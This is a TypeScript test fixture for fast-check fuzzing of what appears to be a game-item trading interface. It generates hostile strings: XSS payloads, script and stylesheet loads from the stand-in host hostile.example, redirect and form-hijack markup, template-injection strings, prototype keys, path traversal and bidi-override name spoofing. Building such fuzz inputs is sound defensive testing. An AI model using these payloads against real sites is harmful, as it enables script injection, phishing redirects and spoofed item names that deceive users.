import fc from 'fast-check';

/** A global that each script among the texts sets if it runs. */
export const canary = '__pwned';

/** A host that must never be requested. */
export const hostileHost = 'hostile.example';

export const run = `window.${canary}=1`;
export const elsewhere = `https://${hostileHost}`;

const markup = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg onload=${run}>`,
  `' autofocus onfocus='${run}' x='`,
  `</style></title></textarea><script src="${elsewhere}/x.js"></script>`,
  `<iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
  `<a href="javascript:${run}">free skins</a>`,
  `<base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<form action="${elsewhere}"><button>Deposit`,
  `&lt;b&gt; &#x202e; &amp;amp;`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}} $& $1 %s %c`,
  `javascript:${run}`,
];

const styles = [
  '<style>*{display:none!important}</style>',
  `red;background:url(${elsewhere}/c.png)`,
  '} body { position: fixed; inset: 0 } .card {',
  `@import "${elsewhere}/x.css";`,
];

/** Direction: overrides without an end, ends without a beginning, and honest right-to-left names. */
const directions = [
  '\u202e$00.001$ gpj.exe',
  '\u202d\u202e\u202b\u202a',
  '\u2067\u2066\u2068 AWP | Asiimov',
  '\u2069\u202c\u2069\u202c \u202eevil',
  '\u200f\u200e\u061c',
  '\u05de\u05d7\u05d5\u05dc\u05dc | \u05d4\u05e1\u05e2\u05e8\u05d4 123',
  '\u062a\u0646\u064a\u0646 \u0627\u0644\u0646\u0627\u0631',
];

/** Texts that show nothing, or not always. */
const unseen = [
  '',
  ' ',
  '\t\r\n\u2028\u2029',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u00ad\u180e\u3164\uffa0',
  'AK\u200b-\u200b47',
  '\u0000\u0001\u001b[31m\u007f\u0085',
];

const broken = ['\ud800', 'AWP \udc00', 'x\ud83d', '\uffff\ufffe', '\u{10ffff}\u{e0001}'];

const emoji = [
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u{1f1e9}\u{1f1ea}',
  '\u2764\ufe0f\u200d\u{1f525}\u{1f3fd}',
  'Z\u0334\u0322\u0327a\u0335\u0328\u0321l\u0336\u0322g\u0337\u0322o\u0338\u0328',
];

const long = [
  'x'.repeat(10_000),
  'word '.repeat(2_000),
  '\u9f8d'.repeat(10_000),
  '\u200b'.repeat(10_000),
  `a${'\u0301'.repeat(9_999)}`,
  '\u{1f525}'.repeat(5_000),
  '\n'.repeat(10_000),
  `${'('.repeat(5_000)}${')'.repeat(5_000)}`,
];

/** Names with a meaning to careless code: keys of prototypes and the like. */
const words = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'length'];

const short = [
  ...markup,
  ...styles,
  ...directions,
  ...unseen,
  ...broken,
  ...emoji,
  ...words,
  '../../client/trading/deposit',
];

const payload = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...short) },
  { weight: 1, arbitrary: fc.constantFrom(...long) },
);

/** A hostile text, alone or inside an ordinary name. */
export const hostileText = fc.oneof(
  { weight: 5, arbitrary: payload },
  { weight: 2, arbitrary: payload.map((text) => `\u2605 Karambit | ${text} (Factory New)`) },
  { weight: 1, arbitrary: fc.tuple(payload, payload).map((texts) => texts.join('')) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
);
